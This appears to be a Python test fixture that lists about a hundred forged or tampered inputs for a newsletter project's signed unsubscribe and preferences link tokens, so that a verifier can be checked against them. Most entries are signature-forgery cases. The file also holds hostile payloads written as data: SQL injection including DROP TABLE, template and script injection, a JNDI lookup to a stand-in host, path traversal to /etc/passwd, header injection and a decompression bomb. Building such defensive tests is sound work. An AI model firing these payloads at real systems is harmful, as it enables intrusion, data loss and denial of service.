"""A hundred ways of making a link up: name -> how the token for a door is made."""

import base64
import hashlib
import json
import zlib
from collections.abc import Callable
from urllib.parse import quote

from itsdangerous import TimestampSigner, URLSafeSerializer, URLSafeTimedSerializer

from cardletter.links import Links
from house import ADA, BO, CY, EDITION, House

OTHER = {"unsubscribe": "preferences", "preferences": "unsubscribe"}
SHA256 = {"key_derivation": "hmac", "digest_method": hashlib.sha256}
Attack = Callable[[House, str], str]


def token(house: House, door: str, member_id: str = ADA, edition: str = EDITION) -> str:
    return house.links.token(door, member_id, edition)


def parts(house: House, door: str, member_id: str = ADA, edition: str = EDITION) -> list[str]:
    return token(house, door, member_id, edition).split(".")


def flipped(text: str, place: int) -> str:
    """Flip the lowest bit that counts of one base64 character."""
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    place %= len(text)
    other = letters[letters.index(text[place]) ^ 1]
    return text[:place] + other + text[place + 1 :]


def flip(part: int, place: int) -> Attack:
    def attack(house: House, door: str) -> str:
        split = parts(house, door)
        split[part] = flipped(split[part], place)
        return ".".join(split)

    return attack


def joined(*pick: int | str) -> Attack:
    def attack(house: House, door: str) -> str:
        split = parts(house, door)
        return ".".join(split[each] if isinstance(each, int) else each for each in pick)

    return attack


def around(before: str = "", after: str = "", middle: str = "") -> Attack:
    """Write something percent-encoded into a good token."""

    def attack(house: House, door: str) -> str:
        good = token(house, door)
        return before + good[:9] + middle + good[9:] + after

    return attack


def text(what: str) -> Attack:
    return lambda _house, _door: quote(what, safe="")


def raw(what: str) -> Attack:
    return lambda _house, _door: what


def changed(change: Callable[[str], str]) -> Attack:
    return lambda house, door: change(token(house, door))


def signed(key: str | None = None, salt: str = "cardletter.{}", **how: object) -> Attack:
    """Sign what a link says by another key, salt or method; without a key, by the project's."""

    def attack(house: House, door: str) -> str:
        ours = key if key is not None else house.links.keys[-1]
        options = SHA256 | how
        signer = URLSafeTimedSerializer(ours, salt.format(door), signer_kwargs=options)
        return str(signer.dumps([ADA, EDITION]))

    return attack


def said(what: object) -> Attack:
    """Sign something else than a member and an edition, by the project's own key."""

    def attack(house: House, door: str) -> str:
        keys = list(house.links.keys)
        signer = URLSafeTimedSerializer(keys, f"cardletter.{door}", signer_kwargs=SHA256)
        return str(signer.dumps(what))

    return attack


def base64url(content: bytes) -> str:
    return base64.urlsafe_b64encode(content).rstrip(b"=").decode()


def payload(member_id: str, edition: str = EDITION, **options: object) -> str:
    return base64url(json.dumps([member_id, edition], **options).encode())  # type: ignore[arg-type]


def swapped(what: str) -> Attack:
    """Put another payload under a good signature."""

    def attack(house: House, door: str) -> str:
        return ".".join([what, *parts(house, door)[1:]])

    return attack


def stolen(member_id: str, edition: str) -> Attack:
    """Put the signature and time of one's own link under the payload of another."""

    def attack(house: House, door: str) -> str:
        mine = parts(house, door, BO, "2026-11")
        return ".".join([parts(house, door, member_id, edition)[0], *mine[1:]])

    return attack


def jwt(algorithm: str, *, sign: bool) -> Attack:
    def attack(house: House, _door: str) -> str:
        head = base64url(json.dumps({"alg": algorithm, "typ": "JWT"}).encode())
        body = base64url(json.dumps({"sub": ADA, "edition": EDITION}).encode())
        key = house.links.keys[0].encode() if sign else b""
        made = hashlib.sha256(key + f"{head}.{body}".encode()).digest() if sign else b""
        return f"{head}.{body}.{base64url(made)}"

    return attack


def of_the_other_door(house: House, door: str) -> str:
    return token(house, OTHER[door])


def of_another_project(_house: House, door: str) -> str:
    return Links(("another project's key",), "", "").token(door, ADA, EDITION)


def plain_timestamp(house: House, door: str) -> str:
    signer = TimestampSigner(house.links.keys[-1], f"cardletter.{door}".encode(), **SHA256)  # type: ignore[arg-type]
    return signer.sign(ADA).decode()


def untimed(house: House, door: str) -> str:
    signer = URLSafeSerializer(
        house.links.keys[-1],
        f"cardletter.{door}",
        signer_kwargs=SHA256,
    )
    return str(signer.dumps([ADA, EDITION]))


def of_the_erased(house: House, door: str) -> str:
    return token(house, door, CY)


ATTACKS: dict[str, Attack] = {
    "a dot": raw("."[:0] + "%2e"),
    "two dots": text(".."),
    "three dots": text("..."),
    "a word": raw("hello"),
    "a member's id": raw(ADA),
    "the payload alone": joined(0),
    "no signature": joined(0, 1),
    "an empty signature": joined(0, 1, ""),
    "no time": joined(0, 2),
    "an empty time": joined(0, "", 2),
    "no payload": joined("", 1, 2),
    "the signature alone": joined(2),
    "time and signature swapped": joined(0, 2, 1),
    "payload and signature swapped": joined(2, 1, 0),
    "payload twice": joined(0, 0, 1, 2),
    "signature twice": joined(0, 1, 2, 2),
    **{
        f"a bit flipped in the {('payload', 'time', 'signature')[part]} at {place}": flip(
            part, place
        )
        for part in range(3)
        for place in (0, 1, 3, -2, -1)
    },
    "an earlier time": joined(0, "AAAAAA", 2),
    "a later time": joined(0, "f____w", 2),
    "a time that is no number": joined(0, "now", 2),
    "cut by one": changed(lambda good: good[:-1]),
    "cut by half": changed(lambda good: good[: len(good) // 2]),
    "cut at the front": changed(lambda good: good[1:]),
    "padded with =": around(after="%3D"),
    "padded with ==": around(after="%3D%3D"),
    "a letter more": around(after="A"),
    "an exclamation mark more": around(after="!"),
    "a dot more": around(after="."),
    "a space before": around(before="%20"),
    "a space after": around(after="%20"),
    "a newline after": around(after="%0A"),
    "a header after": around(after="%0D%0ASet-Cookie:%20a=b"),
    "a tab inside": around(middle="%09"),
    "a null byte after": around(after="%00"),
    "a null byte inside": around(middle="%00"),
    "a null byte before": around(before="%00"),
    "a null byte encoded twice": around(after="%2500"),
    "a slash after": around(after="/"),
    "a slash after, encoded": around(after="%2F"),
    "a slash before, encoded": around(before="%2F"),
    "a backslash after": around(after="%5C"),
    "a path parameter": around(after=";a=b"),
    "a fragment, encoded": around(after="%23a"),
    "a question mark, encoded": around(after="%3Fa=b"),
    "up and down again": around(before="..%2Fpreferences%2F"),
    "up and down again, encoded twice": around(before="%252e%252e%252f"),
    "the token twice": changed(lambda good: good + good),
    "two tokens, a comma between": changed(lambda good: f"{good},{good}"),
    "in capitals": changed(str.upper),
    "in small letters": changed(str.lower),
    "capitals and small letters swapped": changed(str.swapcase),
    "backwards": changed(lambda good: good[::-1]),
    "encoded twice": changed(lambda good: "".join(f"%25{ord(c):02X}" for c in good)),
    "in full-width letters": changed(
        lambda good: quote("".join(chr(ord(c) + 0xFEE0) for c in good))
    ),
    "a soft hyphen inside": around(middle="%C2%AD"),
    "a zero-width space after": around(after="%E2%80%8B"),
    "written from right to left": around(before="%E2%80%AE"),
    "another member's id": swapped(payload(BO)),
    "another edition": swapped(payload(ADA, "2027-01")),
    "the same, spaced otherwise": swapped(payload(ADA, indent=1)),
    "the same, escaped otherwise": swapped(base64url(b'["M\\u002dada-01","2026-12"]')),
    "another member under one's own signature": stolen(ADA, "2026-11"),
    "another edition under one's own signature": stolen(BO, "2026-12"),
    "everybody": swapped(payload("%")),
    "a packed payload": swapped(
        "." + base64url(zlib.compress(json.dumps([ADA, EDITION]).encode()))
    ),
    "a bomb": swapped("." + base64url(zlib.compress(b"[" * 100_000))),
    "of the other door": of_the_other_door,
    "of another project": of_another_project,
    "signed with another key": signed("another key"),
    "signed with an empty key": signed(""),
    "signed with a word as key": signed("secret"),
    "signed for all doors": signed(salt="cardletter"),
    "signed with the library's own salt": signed(salt="itsdangerous"),
    "signed with an empty salt": signed(salt=""),
    "signed for a form": signed(salt="cardletter.form"),
    "signed by SHA-1": signed(digest_method=hashlib.sha1),
    "signed by SHA-512": signed(digest_method=hashlib.sha512),
    "signed by MD5": signed(digest_method=hashlib.md5),
    "a key that is not derived": signed(key_derivation="none"),
    "a key derived otherwise": signed(key_derivation="concat"),
    "a key derived as Django does": signed(key_derivation="django-concat"),
    "signed without a time": untimed,
    "a signed id": plain_timestamp,
    "a JWT without algorithm": jwt("none", sign=False),
    "a JWT with a null algorithm": jwt("None", sign=False),
    "a JWT by HS256": jwt("HS256", sign=True),
    "well signed, but nothing": said(None),
    "well signed, but a number": said(7),
    "well signed, but a text": said("M-ada"),
    "well signed, but one thing": said([ADA]),
    "well signed, but three things": said([ADA, EDITION, "admin"]),
    "SQL": text("' OR '1'='1' --"),
    "SQL that drops": text("1; DROP TABLE consents; --"),
    "a template": text("{{7*7}}"),
    "another template": text("${7*7}#{7*7}<%= 7*7 %>"),
    "a script": text("<script>alert(1)</script>"),
    "a look-up": text("${jndi:ldap://larkfield.example/a}"),
    "a path": text("../../../../etc/passwd"),
    "a path, dots encoded": raw("%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    "a path, encoded twice": raw("%252e%252e%252fetc%252fpasswd"),
    "a Windows path": text("..\\..\\boot.ini"),
    "an overlong slash": raw("%c0%af"),
    "no UTF-8": raw("%ff%fe"),
    "a lone surrogate": raw("%ed%a0%80"),
    "emoji": text("💌"),
    "too long by one": raw("A" * 1_001),
    "ten thousand letters": raw("A" * 10_000),
    "a thousand dots": text("." * 1_000),
    "of an erased member": of_the_erased,
}
